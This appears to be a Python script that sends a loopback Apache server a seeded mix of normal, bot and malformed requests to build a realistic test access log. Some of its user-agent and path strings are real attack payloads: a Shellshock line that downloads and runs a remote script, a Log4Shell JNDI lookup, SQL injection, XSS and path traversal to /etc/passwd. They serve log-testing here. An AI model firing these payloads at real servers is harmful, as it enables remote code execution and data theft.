#!/usr/bin/env python3
"""Sends an Apache httpd on loopback a realistic mix of requests, spread over several hours of
server time; the server writes the access log (see capture.sh). Requests are written by hand on
plain sockets so that the odd ones (binary garbage, HTTP/0.9, over-long URLs, quotes in headers)
reach the server exactly as scanners send them. Seeded: the same seed gives the same requests
(the server's times and byte counts still vary from run to run)."""
import argparse
import base64
import random
import socket
import threading
import time

PAGES = ["/", "/index.html", "/about.html", "/contact.html", "/search.html", "/new/"] + [
    f"/blog/2026/post-{i}.html" for i in range(8)] + [f"/docs/chapter-{i}.html" for i in range(1, 6)]
ASSETS = ["/css/site.css", "/js/app.js", "/img/hero.jpg", "/favicon.ico"] + [f"/img/thumb-{i}.png" for i in range(5)]
BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.6723.102 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
]
BOTS = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "curl/7.88.1", "Wget/1.21.3", "python-requests/2.32.3", "Go-http-client/1.1",
    "Prometheus/2.53.0", "kube-probe/1.31",
]
ODD_AGENTS = [
    'Mozilla/5.0 (compatible; "Quoted" Crawler/1.0; +"http://crawler.example/")',
    'Mozilla/5.0 \\"pre-escaped\\" agent with a backslash \\ in it',
    "() { :; }; /bin/bash -c \"wget http://198.51.100.7/x.sh -O- | sh\"",
    "${jndi:ldap://198.51.100.7:1389/Exploit}",
    "Mozilla/5.0 " + "(KHTML, like Gecko) " * 60 + "Chrome/1.0",
    "Mozilla/5.0 (X11; Linux) caf\u00e9-browser/1.0 \u00fcber",
    "'; DROP TABLE users; --",
    "tab\there",
    "",
]
REFERRERS = ["https://www.google.com/", "https://duckduckgo.com/?q=example+shop", "https://news.ycombinator.com/item?id=4242",
             'https://evil.example/"><script>alert(1)</script>']
SCAN_PATHS = ["/wp-login.php", "/.env", "/.git/config", "/phpmyadmin/index.php", "/cgi-bin/test.cgi", "/actuator/health",
              "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/admin.php?cmd=id", "/xmlrpc.php", "/server-status",
              "/index.php?s=/Index/\\think\\app/invokefunction", "/?q=%27%20OR%20%271%27%3D%271", "/search.html?q=<script>alert(1)</script>",
              "/%2e%2e/%2e%2e/etc/passwd", "/boaform/admin/formLogin?username=admin&psd=admin"]
TLS_HELLO = bytes.fromhex("16030100ca010000c60303") + bytes(range(32)) + b"\x00\x02\x13\x01\x01\x00\r\n\r\n"


class Visitor:
    def __init__(self, rnd, kind):
        self.kind = kind
        if rnd.random() < 0.05:
            self.address = "::1"
        else:
            self.address = f"127.{rnd.randint(0, 255)}.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}"
        self.agent = rnd.choice(BROWSERS if kind == "browser" else BOTS if kind == "bot" else ODD_AGENTS)


def request(method, target, agent=None, referrer=None, headers=(), protocol="HTTP/1.1", body=b""):
    lines = [f"{method} {target} {protocol}", "Host: www.example.test"]
    if agent is not None:
        lines.append(f"User-Agent: {agent}")
    if referrer is not None:
        lines.append(f"Referer: {referrer}")
    lines.extend(headers)
    lines.append("Connection: close")
    if body:
        lines.append(f"Content-Length: {len(body)}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode("utf-8") + body


def send(port, address, payload, read=True, pause=0.0, chunks=None):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(30)
        sock.bind((address, 0))
        sock.connect((address if family == socket.AF_INET6 else "127.0.0.1", port))
        if chunks:
            for chunk in chunks:
                sock.sendall(chunk)
                time.sleep(pause)
        elif payload:
            sock.sendall(payload)
        if pause and not chunks:
            time.sleep(pause)
        if read:
            try:
                sock.shutdown(socket.SHUT_WR)
                while sock.recv(65536):
                    pass
            except OSError:
                pass


def ordinary(rnd, visitor, auth):
    """One request of a browser, bot or odd agent: (payload, label)."""
    agent = visitor.agent
    referrer = None if rnd.random() < 0.4 else rnd.choice(REFERRERS + ["http://www.example.test/"] * 6)
    roll = rnd.random()
    if visitor.kind == "browser" and roll < 0.35:
        return request("GET", rnd.choice(ASSETS), agent, "http://www.example.test" + rnd.choice(PAGES))
    if roll < 0.55:
        page = rnd.choice(PAGES)
        if rnd.random() < 0.2:
            page = f"/search.html?q={rnd.choice(['shoes', 'red+shoes', 'caf%C3%A9', 'a%20b', '100%25'])}&page={rnd.randint(1, 9)}"
        return request("GET", page, agent, referrer)
    if roll < 0.63:  # revalidation: 304
        return request("GET", rnd.choice(PAGES + ASSETS), agent, referrer,
                       ["If-Modified-Since: Thu, 12 Nov 2026 08:00:00 GMT"])
    if roll < 0.71:  # missing page: 404
        return request("GET", rnd.choice(["/blog/2025/post-9.html", "/img/missing.png", "/docs/chapter-6.html",
                                          "/apple-touch-icon.png", "/robots.txt.bak", "/favicon.png"]), agent, referrer)
    if roll < 0.74:
        return request("HEAD", rnd.choice(PAGES), agent)
    if roll < 0.77:  # ranges: 206, and an unsatisfiable one: 416
        unsatisfiable = rnd.random() < 0.1
        return request("GET", rnd.choice(["/downloads/report-2026.pdf", "/img/hero.jpg"]), agent, referrer,
                       ["Range: bytes=999999999-" if unsatisfiable else f"Range: bytes={rnd.randint(0, 9) * 65536}-{rnd.randint(10, 30) * 65536}"])
    if roll < 0.79:
        return request("GET", "/downloads/report-2026.pdf", agent, referrer)
    if roll < 0.81:  # redirects: 301, 302
        return request("GET", rnd.choice(["/old/", "/old/index.html", "/blog", "/docs", "/shop", "/shop/cart?id=7"]), agent, referrer)
    if roll < 0.83:  # forbidden: 403
        return request("GET", rnd.choice(["/private/keys.txt", "/private/", "/status/", "/img/"]), agent, referrer)
    if roll < 0.86:  # basic auth: 401 without, 200 with
        headers = [f"Authorization: Basic {auth}"] if rnd.random() < 0.5 else []
        return request("GET", "/admin/", agent, referrer, headers)
    if roll < 0.90:  # forms and APIs on a static site: 405; OPTIONS 200
        method = rnd.choice(["POST", "POST", "POST", "PUT", "DELETE", "OPTIONS"])
        body = b"q=hello&email=a%40example.test" if method in ("POST", "PUT") else b""
        headers = ["Content-Type: application/x-www-form-urlencoded"] if body else []
        return request(method, rnd.choice(["/contact.html", "/search.html", "/"]), agent, referrer, headers, body=body)
    if roll < 0.915:  # server errors: 500, 503
        return request("GET", rnd.choice(["/status/crash.asis", "/status/maintenance.asis"]), agent, referrer)
    if roll < 0.93:
        return request("GET", "/robots.txt", agent)
    if roll < 0.96:
        return request("GET", rnd.choice(SCAN_PATHS), agent, referrer)
    return request("GET", rnd.choice(PAGES), agent, referrer, protocol=rnd.choice(["HTTP/1.0", "HTTP/1.1"]))


def malformed(rnd):
    """What scanners and broken clients send: (payload, read, pause)."""
    kind = rnd.randrange(14)
    if kind == 0:
        return TLS_HELLO, True, 0
    if kind == 1:
        return bytes(rnd.randrange(256) for _ in range(rnd.randint(8, 40))) + b"\r\n\r\n", True, 0
    if kind == 2:
        return b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n", True, 0
    if kind == 3:
        return b"GET /a b c HTTP/1.1\r\nHost: www.example.test\r\n\r\n", True, 0
    if kind == 4:
        return b"HELLO\r\n\r\n", True, 0
    if kind == 5:  # HTTP/0.9
        return b"GET /about.html\r\n", True, 0
    if kind == 6:  # over-long URL: 414
        return request("GET", "/search.html?q=" + "A" * rnd.randint(8200, 12000), "curl/7.88.1"), True, 0
    if kind == 7:  # HTTP/1.1 without Host: 400
        return b"GET / HTTP/1.1\r\nUser-Agent: zgrab/0.x\r\n\r\n", True, 0
    if kind == 8:  # proxy probes
        return rnd.choice([b"CONNECT www.example.org:443 HTTP/1.1\r\nHost: www.example.org:443\r\n\r\n",
                           request("GET", "http://www.example.org/", "Mozilla/5.0").replace(b"Host: www.example.test", b"Host: www.example.org")]), True, 0
    if kind == 9:
        return b"get /index.html HTTP/1.1\r\nHost: www.example.test\r\n\r\n", True, 0
    if kind == 10:  # a header longer than LimitRequestFieldSize: 400
        return request("GET", "/", "Mozilla/5.0", headers=["Cookie: session=" + "x" * 9000]), True, 0
    if kind == 11:  # connects and says nothing until the server gives up
        return b"", True, 6
    if kind == 12:  # starts a request line and stops
        return b"GET /index.html HT", True, 6
    return b"\x00\x00\x00\x00\x00\x00\x00\x00", True, 0


def slow(port, rnd):
    """A request whose headers trickle in over seconds: logged at its end, stamped with its start."""
    visitor_agent = rnd.choice(BROWSERS)
    head = f"GET {rnd.choice(PAGES)} HTTP/1.1\r\n".encode()
    rest = [f"X-Slow-{i}: {i}\r\n".encode() for i in range(rnd.randint(2, 5))]
    rest += [b"Host: www.example.test\r\n", f"User-Agent: {visitor_agent}\r\n".encode(), b"Connection: close\r\n\r\n"]
    send(port, f"127.9.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}", None, chunks=[head] + rest, pause=0.4)


def quietly(port, address, payload, read, pause):
    try:
        send(port, address, payload, read, pause)
    except OSError as error:
        print("send failed:", error)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, default=18080)
    parser.add_argument("--requests", type=int, default=10000)
    parser.add_argument("--hours", type=float, default=6)
    parser.add_argument("--speed", type=float, default=60)
    parser.add_argument("--seed", type=int, default=20261114)
    parser.add_argument("--htpasswd-user", default="admin")
    parser.add_argument("--htpasswd-password", default="")
    args = parser.parse_args()
    rnd = random.Random(args.seed)
    auth = base64.b64encode(f"{args.htpasswd_user}:{args.htpasswd_password}".encode()).decode()
    visitors = [Visitor(rnd, "browser") for _ in range(220)] + [Visitor(rnd, "bot") for _ in range(40)] + \
               [Visitor(rnd, "odd") for _ in range(len(ODD_AGENTS))]
    # server-time offsets: a quiet first hour, a busy late morning, a lunch dip
    weights = [0.5, 1.0, 1.6, 1.8, 0.9, 1.3]
    hours = int(args.hours)
    offsets = sorted(rnd.choices(range(hours), weights=weights[:hours], k=args.requests))
    offsets = sorted(h * 3600 + rnd.random() * 3600 for h in offsets)
    began = time.monotonic()
    threads = []
    current = rnd.choice(visitors)
    sent = {"ordinary": 0, "malformed": 0, "slow": 0}
    for offset in offsets:
        delay = offset / args.speed - (time.monotonic() - began)
        if delay > 0:
            time.sleep(delay)
        roll = rnd.random()
        if roll < 0.003:
            thread = threading.Thread(target=slow, args=(args.port, random.Random(rnd.random())))
            thread.start()
            threads.append(thread)
            sent["slow"] += 1
            continue
        if roll < 0.02:
            payload, read, pause = malformed(rnd)
            address = f"127.66.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}"
            sent["malformed"] += 1
        else:
            if rnd.random() < 0.3:
                current = rnd.choice(visitors)
            payload, read, pause = ordinary(rnd, current, auth), True, 0
            address = current.address
            if current.kind == "odd" and current.agent == "":
                payload = payload.replace(b"User-Agent: \r\n", b"")
            sent["ordinary"] += 1
        if pause:  # idle connections wait in the background
            thread = threading.Thread(target=quietly, args=(args.port, address, payload, read, pause))
            thread.start()
            threads.append(thread)
        else:
            quietly(args.port, address, payload, read, pause)
    for thread in threads:
        thread.join()
    print("sent", sent)


if __name__ == "__main__":
    main()
